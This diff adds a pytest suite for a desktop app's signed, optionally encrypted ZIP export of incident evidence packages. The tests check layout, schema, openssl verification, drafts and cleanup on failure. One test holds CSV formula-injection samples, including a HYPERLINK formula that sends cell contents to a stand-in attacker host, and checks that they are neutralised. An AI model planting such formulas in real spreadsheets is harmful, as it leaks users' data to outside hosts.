@@ -1,0 +1,239 @@
+"""The signed ZIP package: layout, schema, standard tools (openssl, sha256sum), encryption,
+drafts, and no half-written package after a full disk or a cancel."""
+
+from __future__ import annotations
+
+import csv
+import errno
+import hashlib
+import io
+import json
+import subprocess
+import zipfile
+from collections.abc import Iterator
+from pathlib import Path
+
+import jsonschema
+import pytest
+from package_helpers import PASSWORD, Demo, make_demo, recipient
+
+from opal_desktop.errors import BadFile, InvalidInput
+from opal_desktop.evidence.queries import custody_log
+from opal_desktop.packages import store
+from opal_desktop.packages.csv_export import neutralise
+from opal_desktop.packages.export import default_pdf_step, export_package
+from opal_desktop.packages.model import PackageDraft, Status, Submitter
+from opal_desktop.packages.verify import verify_file
+from opal_desktop.packages.zip_writer import ExportCancelled
+from opal_desktop.paths import resource
+from opal_desktop.vault.vault import Vault
+
+
+@pytest.fixture(scope="module")
+def demo(tmp_path_factory: pytest.TempPathFactory) -> Demo:
+    return make_demo(tmp_path_factory.mktemp("zip"))
+
+
+@pytest.fixture
+def vault(demo: Demo) -> Iterator[Vault]:
+    opened = Vault.open(demo.demo.folder, "manager", PASSWORD)
+    yield opened
+    opened.close()
+
+
+@pytest.fixture(scope="module")
+def exported(demo: Demo, tmp_path_factory: pytest.TempPathFactory) -> Path:
+    out = tmp_path_factory.mktemp("out")
+    vault = Vault.open(demo.demo.folder, "manager", PASSWORD)
+    try:
+        result = export_package(vault, demo.package, out, "zip")
+    finally:
+        vault.close()
+    assert result.files == [out / f"{demo.package}.zip"] and not result.draft
+    return result.files[0]
+
+
+def test_layout_order_compression_and_times(exported: Path) -> None:
+    with zipfile.ZipFile(exported) as archive:
+        infos = archive.infolist()
+    names = [i.filename for i in infos]
+    head = ["README.txt", "package.json", "incidents.csv"] + (
+        ["report.pdf"] if default_pdf_step() else []
+    )
+    assert names[: len(head)] == head and names[-2:] == [
+        "META-INF/SHA256SUMS",
+        "META-INF/SHA256SUMS.p7s",
+    ]
+    stills = names[len(head) : -2]
+    assert (
+        stills
+        and stills == sorted(stills)
+        and all(n.startswith("exhibits/masters/") for n in stills)
+    )
+    for info in infos:
+        stored = info.filename.startswith("exhibits/") or info.filename.endswith(".p7s")
+        assert info.compress_type == (zipfile.ZIP_STORED if stored else zipfile.ZIP_DEFLATED), (
+            info.filename
+        )
+    assert len({i.date_time for i in infos}) == 1 and {i.external_attr >> 16 for i in infos} == {
+        0o644
+    }
+
+
+def test_package_json_meets_the_committed_schema(exported: Path, demo: Demo) -> None:
+    with zipfile.ZipFile(exported) as archive:
+        doc = json.loads(archive.read("package.json"))
+        lines = archive.read("META-INF/SHA256SUMS").decode().splitlines()
+    sums = {path: digest for digest, path in (line.split("  ", 1) for line in lines)}
+    schema = json.loads(resource("schemas", "package.schema.json").read_text(encoding="utf-8"))
+    jsonschema.Draft202012Validator.check_schema(schema)
+    jsonschema.validate(doc, schema, cls=jsonschema.Draft202012Validator)
+    assert doc["package"]["reference"] == demo.package and doc["draft"] is False
+    assert doc["grading"]["code"] == "2B C" and doc["schema_version"] == 1
+    assert {e["path"]: e["sha256"] for e in doc["exhibits"]}.items() <= sums.items()
+    assert {f["path"] for f in doc["files"]} == {"README.txt", "incidents.csv"} | (
+        {"report.pdf"} if default_pdf_step() else set()
+    )
+
+
+def test_openssl_and_sha256sum_pass(exported: Path, demo: Demo, tmp_path: Path) -> None:
+    with zipfile.ZipFile(exported) as archive:
+        archive.extractall(tmp_path)  # our own file, in a test: the recipient's step 2
+    signed = subprocess.run(
+        ["openssl", "cms", "-verify", "-binary", "-inform", "DER", "-in", "META-INF/SHA256SUMS.p7s",
+         "-content", "META-INF/SHA256SUMS", "-CAfile", str(demo.cert_pem), "-out", "/dev/null"],
+        cwd=tmp_path, capture_output=True, text=True, check=False,
+    )  # fmt: skip
+    assert signed.returncode == 0 and "Verification successful" in signed.stderr, signed.stderr
+    sums = subprocess.run(["sha256sum", "-c", "META-INF/SHA256SUMS"], cwd=tmp_path, capture_output=True, text=True,
+                          check=False)  # fmt: skip
+    lines = sums.stdout.splitlines()
+    assert sums.returncode == 0 and lines and all(line.endswith(": OK") for line in lines), (
+        sums.stdout
+    )
+    listed = {line.removesuffix(": OK") for line in lines}
+    on_disk = {p.relative_to(tmp_path).as_posix() for p in tmp_path.rglob("*") if p.is_file()}
+    assert on_disk - listed == {"META-INF/SHA256SUMS", "META-INF/SHA256SUMS.p7s"}
+    readme = (tmp_path / "README.txt").read_text(encoding="utf-8")
+    assert (
+        "1. Get the sender's certificate" in readme and "sha256sum -c META-INF/SHA256SUMS" in readme
+    )
+    assert "apostrophe" in readme and "\r\n" in (tmp_path / "README.txt").read_bytes().decode()
+
+
+def test_incidents_csv_neutralises_formulas(exported: Path) -> None:
+    for start in ("=", "+", "-", "@", "\t", "\r"):
+        assert neutralise(start + "1") == "'" + start + "1"
+    assert neutralise("Aisle 4") == "Aisle 4" and neutralise("") == ""
+    with zipfile.ZipFile(exported) as archive:
+        raw = archive.read("incidents.csv")
+    assert raw.startswith(b"\xef\xbb\xbf")
+    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"))))
+    bad = next(r for r in rows if r["narrative"].startswith("'="))
+    assert bad["narrative"] == "'" + '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    assert bad["location"] == "'+44 aisle" and bad["witnesses"] == "'@SUM(1+1)"
+    assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for v in r.values())
+    assert all(r["loss_pence"].isdigit() for r in rows)
+
+
+def test_export_recorded_with_hash_and_custody(exported: Path, vault: Vault, demo: Demo) -> None:
+    package = store.get_package(vault, demo.package)
+    assert package.status is Status.EXPORTED
+    record = next(e for e in package.exports if e["file_name"] == exported.name)
+    assert (
+        record["sha256"] == hashlib.sha256(exported.read_bytes()).hexdigest()
+        and record["format"] == "zip"
+    )
+    with zipfile.ZipFile(exported) as archive:
+        refs = [e["reference"] for e in json.loads(archive.read("package.json"))["exhibits"]]
+    assert all(
+        any(c.action == "exported" and exported.name in c.details for c in custody_log(vault, r))
+        for r in refs
+    )
+
+
+def test_encrypted_to_two_recipients_opens_with_openssl(
+    vault: Vault, demo: Demo, tmp_path: Path
+) -> None:
+    (tmp_path / "out").mkdir()
+    first, second = recipient(tmp_path, "opal-analyst"), recipient(tmp_path, "opal-duty")
+    result = export_package(vault, demo.package, tmp_path / "out", "zip",
+                            encrypt_to=[first[0].read_bytes(), second[0].read_bytes()])  # fmt: skip
+    p7m = result.files[0]
+    assert p7m.name == f"{demo.package}.zip.p7m" and [
+        p.name for p in (tmp_path / "out").iterdir()
+    ] == [p7m.name]
+    for cert, key in (first, second):
+        inner = tmp_path / f"{cert.stem}.zip"
+        opened = subprocess.run(["openssl", "cms", "-decrypt", "-inform", "DER", "-in", str(p7m), "-recip", str(cert),
+                                 "-inkey", str(key), "-out", str(inner)], capture_output=True, text=True, check=False)  # fmt: skip
+        assert opened.returncode == 0, opened.stderr
+        report = verify_file(inner, demo.cert_pem.read_bytes())
+        assert report.valid and report.trusted and report.kind == "zip", report.problems
+    report = verify_file(
+        p7m, demo.cert_pem.read_bytes(), key=(first[1].read_bytes(), first[0].read_bytes())
+    )
+    assert report.valid and report.kind == "p7m/zip"
+    with pytest.raises(BadFile, match="not for encryption"):
+        export_package(
+            vault, demo.package, tmp_path / "out", "zip", encrypt_to=[demo.cert_pem.read_bytes()]
+        )
+
+
+def test_not_ready_only_as_a_draft(vault: Vault, tmp_path: Path) -> None:
+    with vault.engine.connect() as conn:
+        from sqlalchemy import text
+
+        missing = conn.execute(
+            text("SELECT reference FROM incidents WHERE has_crime_reference = 0 LIMIT 1")
+        ).scalar_one()
+    package = store.create_package(vault, PackageDraft(title="Not ready", incident_references=[missing],
+                                   submitter=Submitter("A", "B", "0113 496 0000", "C")))  # fmt: skip
+    with pytest.raises(InvalidInput, match=r"not ready to refer.*--draft"):
+        export_package(vault, package.reference, tmp_path, "zip")
+    assert list(tmp_path.iterdir()) == []
+    result = export_package(vault, package.reference, tmp_path, "zip", draft=True)
+    assert result.files[0].name == f"{package.reference}-DRAFT.zip" and result.draft
+    with zipfile.ZipFile(result.files[0]) as archive:
+        assert json.loads(archive.read("package.json"))["draft"] is True
+        assert "DRAFT – NOT FOR SUBMISSION" in archive.read("README.txt").decode()
+    after = store.get_package(vault, package.reference)
+    assert after.status is Status.DRAFT and after.exports[-1]["draft"]
+
+
+def test_full_disk_leaves_nothing(
+    vault: Vault, demo: Demo, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    (tmp_path / "keep.txt").write_text("already here")
+    before = sorted(p.name for p in tmp_path.iterdir())
+    exports = len(store.get_package(vault, demo.package).exports)
+    real = zipfile.ZipFile.writestr
+
+    def writestr(
+        self: zipfile.ZipFile, info: zipfile.ZipInfo | str, data: bytes | str, *a: object
+    ) -> None:
+        name = info.filename if isinstance(info, zipfile.ZipInfo) else info
+        if name.startswith("exhibits/"):
+            raise OSError(errno.ENOSPC, "No space left on device")
+        real(self, info, data)
+
+    monkeypatch.setattr(zipfile.ZipFile, "writestr", writestr)
+    with pytest.raises(
+        BadFile,
+        match=r"the disk is full\. Free some space or choose another folder\. Nothing was left",
+    ):
+        export_package(vault, demo.package, tmp_path, "zip")
+    assert sorted(p.name for p in tmp_path.iterdir()) == before
+    assert len(store.get_package(vault, demo.package).exports) == exports
+
+
+def test_cancel_leaves_nothing(vault: Vault, demo: Demo, tmp_path: Path) -> None:
+    calls: list[tuple[int, int]] = []
+
+    def progress(done: int, total: int) -> bool:
+        calls.append((done, total))
+        return done < total * 3 // 4
+
+    with pytest.raises(ExportCancelled, match=r"cancelled\. No package was written"):
+        export_package(vault, demo.package, tmp_path, "zip", progress=progress)
+    assert list(tmp_path.iterdir()) == [] and calls and all(d <= t for d, t in calls)
